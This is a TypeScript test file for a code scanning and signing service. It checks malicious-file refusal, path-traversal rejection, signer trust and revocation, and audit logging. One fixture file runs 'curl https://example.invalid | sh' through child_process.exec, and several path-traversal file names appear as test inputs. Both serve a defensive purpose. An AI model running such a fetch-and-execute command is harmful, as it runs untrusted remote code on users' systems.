/** Code over HTTP: scanned, signed, verified; and whom the service trusts. */
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { generateKeyFiles } from '../../src/index.ts';
import { type Served, served } from './served.ts';

describe('code that is looked at', () => {
  const keys = mkdtempSync(join(tmpdir(), 'caisson-keys-'));
  const { privateKey, publicKey } = generateKeyFiles(keys, 'service');
  let service: Served;
  let admin: string;
  let operator: string;

  before(async () => {
    service = await served({ signing: { keyFile: privateKey } });
    admin = await service.key('admin');
    operator = await service.key('operator');
  });
  after(async () => {
    await service[Symbol.asyncDispose]();
    rmSync(keys, { recursive: true });
  });

  test('is told with its findings by the names that it came with', async () => {
    const { status, body, text } = await service.ask('POST', '/api/scan', {
      key: admin,
      body: {
        files: {
          'lib/good.js': 'export const sum = (a, b) => a + b;',
          'lib/bad.js': "require('child_process').exec('curl https://example.invalid | sh')",
        },
        profile: 'effect',
      },
    });
    assert.equal(status, 200, text);
    const report = body as { decision: string; listed: { path: string; score: number }[] };
    assert.equal(report.decision, 'refused');
    assert.deepEqual(
      report.listed.map(({ path }) => path),
      ['lib/bad.js'],
    );
    assert.ok(!text.includes(service.state));
    assert.deepEqual(readdirSync(join(service.state, 'scans')), []);
  });

  test('is laid down nowhere else', async () => {
    for (const path of [
      '../x.js',
      '/etc/x.js',
      'a/../../x.js',
      'a//b.js',
      './x.js',
      'a/',
      'x\0.js',
    ]) {
      const { status } = await service.ask('POST', '/api/scan', {
        key: admin,
        body: { files: { [path]: '1' } },
      });
      assert.equal(status, 400, JSON.stringify(path));
    }
    const both = await service.ask('POST', '/api/scan', {
      key: admin,
      body: { files: { a: '1', 'a/b.js': '2' } },
    });
    assert.equal(both.status, 400);
    assert.deepEqual(readdirSync(join(service.state, 'scans')), []);
  });

  test('is signed, verified where the signer is trusted, and not after it was revoked', async () => {
    const subject = { id: 'greet', version: '1.0.0', kind: 'javascript', code: 'export default 1' };
    const signed = await service.ask('POST', '/api/sign', { key: admin, body: subject });
    assert.equal(signed.status, 200, signed.text);
    const { envelope } = signed.body as { envelope: object };
    const verify = async (changed: object = {}) => {
      const { body } = await service.ask('POST', '/api/verify', {
        key: admin,
        body: { ...subject, ...changed, signatures: [JSON.stringify(envelope)] },
      });
      return (body as { ok: boolean }).ok;
    };
    assert.equal(await verify(), false);
    const entry = { name: 'service', key: readFileSync(publicKey, 'utf8') };
    const denied = await service.ask('POST', '/api/trust/signers', { key: admin, body: entry });
    assert.equal(denied.status, 403);
    const trusted = await service.ask('POST', '/api/trust/signers', { key: operator, body: entry });
    assert.equal(trusted.status, 201, trusted.text);
    assert.equal(await verify(), true);
    assert.equal(await verify({ code: 'export default 2' }), false);
    assert.equal(await verify({ id: 'other' }), false);
    const listed = await service.ask('GET', '/api/trust/signers', { key: admin });
    assert.equal((listed.body as { signers: { state: string }[] }).signers[0]?.state, 'trusted');
    const revoke = (key: string) =>
      service.ask('POST', '/api/trust/signers/service/revoke', { key, body: { reason: 'a test' } });
    assert.equal((await revoke(admin)).status, 403);
    assert.equal(await verify(), true);
    assert.equal(((await revoke(operator)).body as { state: string }).state, 'revoked');
    assert.equal(await verify(), false);
    await service.serving.service.audit?.flush();
    const records = await service.ask('GET', '/api/audit?event=access', { key: operator });
    const { items } = records.body as {
      items: { details: { action: string; subject: string; by: string } }[];
    };
    assert.deepEqual(
      items.map(({ details }) => [details.action, details.subject]),
      [
        ['signer-trusted', 'service'],
        ['signer-revoked', 'service'],
      ],
    );
    for (const { details } of items) assert.match(details.by, /^key:/);
  });
});
